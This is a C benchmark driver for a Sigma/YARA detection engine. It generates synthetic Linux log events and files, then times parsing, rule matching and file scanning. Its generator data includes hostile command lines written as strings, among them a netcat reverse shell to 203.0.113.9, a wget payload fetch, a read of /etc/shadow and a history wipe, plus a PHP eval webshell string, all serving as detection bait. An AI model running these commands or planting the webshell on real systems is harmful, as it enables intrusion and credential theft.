/* Detection engine benchmark driver (bench/detect-throughput builds and runs it).
 *
 *   detect_bench gen-events OUT N SEED    process_creation/file_event/network/syslog
 *   detect_bench gen-auth OUT N SEED      sshd auth events for the correlation packs
 *   detect_bench gen-files DIR N SEED     files for YARA (text, ELF-ish, scripts)
 *   detect_bench sigma EVENTS RULES...    parse-only vs parse+match over EVENTS
 *   detect_bench yara DIR RULES...        files/s scanning every file of DIR
 *
 * Events are JSON lines with realistic values (paths, command lines,
 * addresses drawn from fixed vocabularies by a seeded xorshift generator),
 * about one in a thousand built to match SigmaHQ Linux rules or our packs.
 * Times are thread CPU time (a figure per core, whatever else the machine
 * runs) and wall time, the best of BENCH_ROUNDS rounds. Correlation state
 * carries over from round to round, as it would on a live stream. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "detect/detect.h"

/* ---- seeded generator ------------------------------------------------ */

static uint64_t rng_state;

static uint64_t rng_next(void) { /* xorshift64* (Vigna 2014) */
    rng_state ^= rng_state >> 12;
    rng_state ^= rng_state << 25;
    rng_state ^= rng_state >> 27;
    return rng_state * 2685821657736338717ULL;
}

static size_t rng_below(size_t n) {
    return (size_t)(rng_next() % n);
}

#define PICK(list) list[rng_below(sizeof list / sizeof *list)]

static const char *const users[] = {"root", "www-data", "alice", "bob", "postgres", "deploy",
                                    "nginx", "ubuntu", "jenkins", "backup"};
static const char *const hosts[] = {"web-01", "web-02", "db-01", "bastion", "build-07",
                                    "cache-03", "mail-01", "k8s-node-12"};
/* Ordinary command lines: image, then arguments. */
static const char *const benign[][2] = {
    {"/usr/bin/ls", "ls -la /var/log"},
    {"/usr/bin/grep", "grep -r ERROR /var/log/app"},
    {"/usr/bin/python3", "python3 /opt/app/manage.py runworker"},
    {"/usr/bin/git", "git fetch --prune origin"},
    {"/usr/sbin/cron", "/usr/sbin/CRON -f"},
    {"/usr/bin/systemctl", "systemctl status nginx.service"},
    {"/usr/bin/tar", "tar czf /backup/etc-2025.tgz /etc"},
    {"/usr/bin/psql", "psql -U app -d orders -c select 1"},
    {"/usr/bin/rsync", "rsync -az /srv/www/ backup:/srv/www/"},
    {"/usr/lib/postgresql/15/bin/postgres", "postgres: checkpointer"},
    {"/usr/bin/sudo", "sudo -u deploy /opt/deploy/release.sh"},
    {"/usr/bin/apt-get", "apt-get -qq update"},
    {"/usr/bin/curl", "curl -fsS https://api.internal.example/health"},
    {"/usr/bin/find", "find /tmp -type f -mtime +7 -delete"},
    {"/usr/bin/vim", "vim /etc/nginx/sites-enabled/default"},
    {"/usr/bin/ssh", "ssh -o BatchMode=yes build-07 uptime"},
};
static const char *const parents[] = {"/bin/bash", "/usr/bin/zsh", "/usr/sbin/sshd",
                                      "/usr/lib/systemd/systemd", "/usr/sbin/cron",
                                      "/usr/bin/python3"};
/* Built to match: SigmaHQ Linux process_creation rules and our packs. */
static const char *const evil[][2] = {
    {"/usr/bin/base64", "base64 -d /tmp/.x | bash"},
    {"/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444"},
    {"/usr/bin/chmod", "chmod u+s /tmp/.sh"},
    {"/usr/bin/crontab", "crontab -r"},
    {"/usr/bin/cat", "cat /etc/shadow"},
    {"/bin/bash", "bash -c export HISTFILE=/dev/null"},
    {"/usr/bin/wget", "wget http://203.0.113.9/x.sh -O /tmp/x.sh"},
    {"/usr/sbin/iptables", "iptables -F"},
};
static const char *const files[] = {"/var/log/nginx/access.log", "/home/alice/.bash_history",
                                    "/srv/www/static/app.js", "/var/lib/postgresql/15/main/base/16384/2619",
                                    "/tmp/pip-build-1x2y/setup.py", "/etc/nginx/nginx.conf",
                                    "/var/cache/apt/pkgcache.bin", "/opt/app/media/upload-4711.png"};
static const char *const evil_files[] = {"/var/run/haldrund.pid", "/etc/ld.so.preload",
                                         "/var/www/html/shell.php", "/etc/cron.d/.update"};
static const char *const programs[][2] = {
    {"cron", "(root) CMD (run-parts /etc/cron.hourly)"},
    {"systemd", "Started Session 4711 of user alice."},
    {"kernel", "TCP: request_sock_TCP: Possible SYN flooding on port 443."},
    {"nginx", "worker process 2211 exited on signal 9"},
    {"sudo", "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get update"},
    {"sshd", "Accepted publickey for deploy from 10.0.4.2 port 50022 ssh2"},
    {"dhclient", "DHCPREQUEST for 10.0.4.17 on eth0 to 10.0.4.1 port 67"},
};

static void put_time(FILE *out, uint64_t i) {
    /* one event every 100 us from 2025-03-01T00:00:00Z */
    uint64_t us = i * 100;
    fprintf(out, "\"time\":\"2025-03-01T%02u:%02u:%02u.%06uZ\"", (unsigned)(us / 3600000000U % 24),
            (unsigned)(us / 60000000U % 60), (unsigned)(us / 1000000U % 60), (unsigned)(us % 1000000U));
}

static void put_head(FILE *out, uint64_t i, const char *category, const char *service) {
    fputc('{', out);
    put_time(out, i);
    fprintf(out, ",\"host\":\"%s\",\"logsource\":{\"product\":\"linux\",\"%s\":\"%s\"}", PICK(hosts),
            category ? "category" : "service", category ? category : service);
}

static void gen_event(FILE *out, uint64_t i) {
    bool is_evil = rng_below(1000) == 0;
    size_t kind = rng_below(100);
    const char *user = PICK(users);
    unsigned pid = 1000 + (unsigned)rng_below(60000);
    if (kind < 50) {
        const char *const *cmd = is_evil ? PICK(evil) : PICK(benign);
        put_head(out, i, "process_creation", NULL);
        fprintf(out, ",\"Image\":\"%s\",\"CommandLine\":\"%s\",\"ParentImage\":\"%s\","
                "\"User\":\"%s\",\"CurrentDirectory\":\"/home/%s\",\"ProcessId\":%u,"
                "\"ParentProcessId\":%u}\n",
                cmd[0], cmd[1], PICK(parents), user, user, pid, pid - 1 - (unsigned)rng_below(50));
    } else if (kind < 70) {
        put_head(out, i, "file_event", NULL);
        fprintf(out, ",\"Image\":\"%s\",\"TargetFilename\":\"%s\",\"User\":\"%s\",\"ProcessId\":%u}\n",
                PICK(benign)[0], is_evil ? PICK(evil_files) : PICK(files), user, pid);
    } else if (kind < 85) {
        put_head(out, i, "network_connection", NULL);
        fprintf(out, ",\"Image\":\"%s\",\"DestinationIp\":\"%u.%u.%u.%u\",\"DestinationPort\":%u,"
                "\"SourceIp\":\"10.0.4.%u\",\"SourcePort\":%u,\"Initiated\":\"true\","
                "\"Protocol\":\"tcp\",\"User\":\"%s\"}\n",
                is_evil ? "/usr/bin/nc" : PICK(benign)[0], 10 + (unsigned)rng_below(200),
                (unsigned)rng_below(256), (unsigned)rng_below(256), 1 + (unsigned)rng_below(254),
                is_evil ? 4444u : (rng_below(2) ? 443u : 5432u), 2 + (unsigned)rng_below(250),
                32768 + (unsigned)rng_below(28000), user);
    } else {
        const char *const *p = PICK(programs);
        put_head(out, i, NULL, strcmp(p[0], "sudo") == 0 || strcmp(p[0], "sshd") == 0 ? "auth" : "syslog");
        fprintf(out, ",\"Hostname\":\"%s\",\"Program\":\"%s\",\"Pid\":%u,\"Message\":\"%s\"}\n",
                PICK(hosts), p[0], pid,
                is_evil ? "Failed password for invalid user admin from 198.51.100.7 port 40022 ssh2" : p[1]);
    }
}

/* sshd over many hosts: mostly successes, bursts of failures from one
 * address now and then (brute force, some followed by a success). */
static void gen_auth(FILE *out, uint64_t i) {
    char host[32];
    snprintf(host, sizeof host, "srv-%04zu", rng_below(5000));
    put_head(out, i, NULL, "auth");
    bool failed = rng_below(4) == 0;
    fprintf(out, ",\"Hostname\":\"%s\",\"Program\":\"sshd\",\"Pid\":%zu,\"Message\":\"%s %s from "
            "198.51.100.%zu port %zu ssh2\"}\n",
            host, 1000 + rng_below(60000), failed ? "Failed password for" : "Accepted publickey for",
            PICK(users), rng_below(256), 30000 + rng_below(30000));
}

static int generate(const char *path, uint64_t n, uint64_t seed, bool auth) {
    FILE *out = fopen(path, "we");
    if (!out) return perror(path), 1;
    rng_state = seed ? seed : 1;
    for (uint64_t i = 0; i < n; i++) auth ? gen_auth(out, i) : gen_event(out, i);
    return fclose(out) == 0 ? 0 : (perror(path), 1);
}

/* Files for YARA: mostly text and binary noise of 4-64 KiB, a few carrying
 * strings of our bpfdoor/webshell rules. */
static int gen_files(const char *dir, uint64_t n, uint64_t seed) {
    static const char *const planted[] = {"<?php @eval($_POST['cmd']); ?>",
                                          "/var/run/haldrund.pid\0kdmtmpflush",
                                          "HISTFILE=/dev/null\0MYSQL_HISTFILE=/dev/null"};
    rng_state = seed ? seed : 1;
    if (mkdir(dir, 0755) != 0 && errno != EEXIST) return perror(dir), 1;
    char *buf = malloc(65536);
    if (!buf) return 1;
    for (uint64_t i = 0; i < n; i++) {
        size_t len = 4096 + rng_below(61440);
        bool text = rng_below(2);
        for (size_t k = 0; k < len; k++) {
            buf[k] = text ? "abcdefghij klmnopqrstuvwxyz\n{}();=$/"[rng_below(36)] : (char)rng_next();
        }
        if (rng_below(100) == 0) {
            const char *s = PICK(planted);
            size_t slen = strlen(s) + 1 + strlen(s + strlen(s) + 1);
            memcpy(buf + rng_below(len - slen), s, slen);
        }
        char path[4096];
        snprintf(path, sizeof path, "%s/f%06" PRIu64 "%s", dir, i, text ? ".txt" : ".bin");
        FILE *f = fopen(path, "we");
        if (!f || fwrite(buf, 1, len, f) != len || fclose(f) != 0) {
            free(buf);
            return perror(path), 1;
        }
    }
    free(buf);
    return 0;
}

/* ---- measuring ------------------------------------------------------- */

typedef struct clocks {
    double cpu, wall;
} clocks;

static clocks now(void) {
    struct timespec c, w;
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &c);
    clock_gettime(CLOCK_MONOTONIC, &w);
    return (clocks){c.tv_sec + c.tv_nsec / 1e9, w.tv_sec + w.tv_nsec / 1e9};
}

static clocks since(clocks start) {
    clocks t = now();
    return (clocks){t.cpu - start.cpu, t.wall - start.wall};
}

static int on_hit(void *ctx, const detect_hit *hit, hae_err *err) {
    (void)hit;
    (void)err;
    (*(uint64_t *)ctx)++;
    return 0;
}

static const char *map_file(const char *path, size_t *size) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    struct stat st;
    if (fd < 0 || fstat(fd, &st) != 0) return perror(path), NULL;
    void *data = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE | MAP_POPULATE, fd, 0);
    close(fd);
    *size = (size_t)st.st_size;
    return data == MAP_FAILED ? NULL : data;
}

/* One pass over every line: decode, then (with e) match. */
static int pass(const char *data, size_t size, detect_engine *e, uint64_t *events, uint64_t *hits) {
    hae_err err = {0};
    for (size_t at = 0; at < size;) {
        const char *nl = memchr(data + at, '\n', size - at);
        size_t len = nl ? (size_t)(nl - (data + at)) : size - at;
        hae_event ev;
        if (hae_event_decode_json(&ev, data + at, len, &err) != HAE_OK) {
            fprintf(stderr, "event at byte %zu: %s\n", at, err.msg);
            return 1;
        }
        if (e && detect_engine_match(e, &ev, on_hit, hits, &err) != HAE_OK) {
            fprintf(stderr, "match: %s\n", err.msg);
            hae_event_clear(&ev);
            return 1;
        }
        hae_event_clear(&ev);
        (*events)++;
        at += len + 1;
    }
    return 0;
}

static int bench_sigma(const char *events_path, char **rule_paths, int count) {
    hae_err err = {0};
    detect_engine *e = NULL;
    detect_load_counts loaded = {0};
    clocks t0 = now();
    int rc = detect_engine_new(&e, NULL, &err);
    for (int i = 0; rc == HAE_OK && i < count; i++) {
        rc = detect_engine_load_path(e, rule_paths[i], NULL, NULL, &loaded, &err);
    }
    if (rc == HAE_OK) rc = detect_engine_compile(e, NULL, NULL, &err);
    clocks build = since(t0);
    if (rc != HAE_OK) {
        fprintf(stderr, "rules: %s\n", err.msg);
        detect_engine_free(e);
        return 1;
    }
    size_t size;
    const char *data = map_file(events_path, &size);
    if (!data) return 1;
    uint64_t n_parse = 0, n_match = 0, hits = 0;
    pass(data, size, NULL, &n_parse, &hits); /* warm the page cache and allocator */
    /* Best of BENCH_ROUNDS (default 3) alternating rounds: on a shared
     * machine the least disturbed round is the closest to the real cost. */
    const char *env = getenv("BENCH_ROUNDS");
    int rounds = env && atoi(env) > 0 ? atoi(env) : 3, failed = 0;
    clocks parse = {1e30, 1e30}, both = {1e30, 1e30};
    for (int round = 0; round < rounds && !failed; round++) {
        n_parse = n_match = hits = 0;
        t0 = now();
        failed |= pass(data, size, NULL, &n_parse, &hits);
        clocks t = since(t0);
        if (t.cpu < parse.cpu) parse = t;
        t0 = now();
        failed |= pass(data, size, e, &n_match, &hits);
        t = since(t0);
        if (t.cpu < both.cpu) both = t;
    }
    detect_stats st;
    detect_engine_stats(e, &st);
    double match_cpu = both.cpu - parse.cpu;
    printf("rules: %zu compiled (%zu unsupported, %zu invalid) in %.2f s; %zu patterns in "
           "Hyperscan, %zu direct\n", loaded.compiled, loaded.unsupported, loaded.invalid,
           build.wall, st.prefilter_patterns, st.direct_patterns);
    printf("events: %" PRIu64 " (%.0f MB), hits: %" PRIu64 ", correlation groups live %" PRIu64
           ", evicted %" PRIu64 "\n", n_match, size / 1e6, hits, st.correlation_groups,
           st.correlation_evicted);
    printf("parse only:    %8.3f s cpu (%.3f wall)  %10.0f events/s per core\n", parse.cpu,
           parse.wall, n_parse / parse.cpu);
    printf("parse + match: %8.3f s cpu (%.3f wall)  %10.0f events/s per core\n", both.cpu,
           both.wall, n_match / both.cpu);
    printf("match alone:   %8.3f s cpu               %10.0f events/s per core\n", match_cpu,
           match_cpu > 0 ? n_match / match_cpu : 0.0);
    printf("ratio (parse + match) / parse: %.2fx  (best of %d rounds)\n", both.cpu / parse.cpu, rounds);
    munmap((void *)data, size);
    detect_engine_free(e);
    return failed;
}

/* ---- YARA ------------------------------------------------------------ */

static int on_yara(void *ctx, const char *rule, const char *ns, const char *const *tags,
                   size_t tag_count, hae_severity severity, hae_err *err) {
    (void)rule, (void)ns, (void)tags, (void)tag_count, (void)severity, (void)err;
    (*(uint64_t *)ctx)++;
    return 0;
}

static int compare_names(const void *a, const void *b) {
    return strcmp(*(char *const *)a, *(char *const *)b);
}

static int bench_yara(const char *dir, char **rule_paths, int count) {
    hae_err err = {0};
    detect_yara *y = NULL;
    if (detect_yara_new(&y, (const char *const *)rule_paths, (size_t)count, &err) != HAE_OK) {
        fprintf(stderr, "yara: %s\n", err.msg);
        return 1;
    }
    DIR *d = opendir(dir);
    if (!d) return perror(dir), 1;
    char **names = NULL;
    size_t n = 0, cap = 0, bytes = 0;
    struct dirent *de;
    while ((de = readdir(d)) != NULL) {
        if (de->d_name[0] == '.') continue;
        if (n == cap) {
            cap = cap ? cap * 2 : 1024;
            char **grown = realloc(names, cap * sizeof *names);
            if (!grown) return 1;
            names = grown;
        }
        if (asprintf(&names[n++], "%s/%s", dir, de->d_name) < 0) return 1;
    }
    closedir(d);
    qsort(names, n, sizeof *names, compare_names);
    uint64_t hits = 0;
    int rc = HAE_OK;
    for (size_t i = 0; i < n; i++) { /* warm the page cache */
        struct stat st;
        if (stat(names[i], &st) == 0) bytes += (size_t)st.st_size;
    }
    clocks t0 = now();
    for (size_t i = 0; i < n && rc == HAE_OK; i++) rc = detect_yara_scan_file(y, names[i], on_yara, &hits, &err);
    clocks t = since(t0);
    if (rc != HAE_OK) fprintf(stderr, "scan: %s\n", err.msg);
    printf("yara: %zu rules, %zu files (%.1f MB), %" PRIu64 " matches\n",
           detect_yara_rule_count(y), n, bytes / 1e6, hits);
    printf("haetae (detect_yara_scan_file, 1 thread): %.3f s cpu (%.3f wall)  %8.0f files/s per core"
           "  %.0f MB/s\n", t.cpu, t.wall, n / t.cpu, bytes / 1e6 / t.cpu);
    for (size_t i = 0; i < n; i++) free(names[i]);
    free(names);
    detect_yara_free(y);
    return rc != HAE_OK;
}

int main(int argc, char **argv) {
    if (argc >= 5 && strcmp(argv[1], "gen-events") == 0) {
        return generate(argv[2], strtoull(argv[3], NULL, 10), strtoull(argv[4], NULL, 10), false);
    }
    if (argc >= 5 && strcmp(argv[1], "gen-auth") == 0) {
        return generate(argv[2], strtoull(argv[3], NULL, 10), strtoull(argv[4], NULL, 10), true);
    }
    if (argc >= 5 && strcmp(argv[1], "gen-files") == 0) {
        return gen_files(argv[2], strtoull(argv[3], NULL, 10), strtoull(argv[4], NULL, 10));
    }
    if (argc >= 4 && strcmp(argv[1], "sigma") == 0) return bench_sigma(argv[2], argv + 3, argc - 3);
    if (argc >= 4 && strcmp(argv[1], "yara") == 0) return bench_yara(argv[2], argv + 3, argc - 3);
    fprintf(stderr, "usage: detect_bench gen-events|gen-auth|gen-files OUT N SEED\n"
                    "       detect_bench sigma EVENTS RULES... | yara DIR RULES...\n");
    return 2;
}
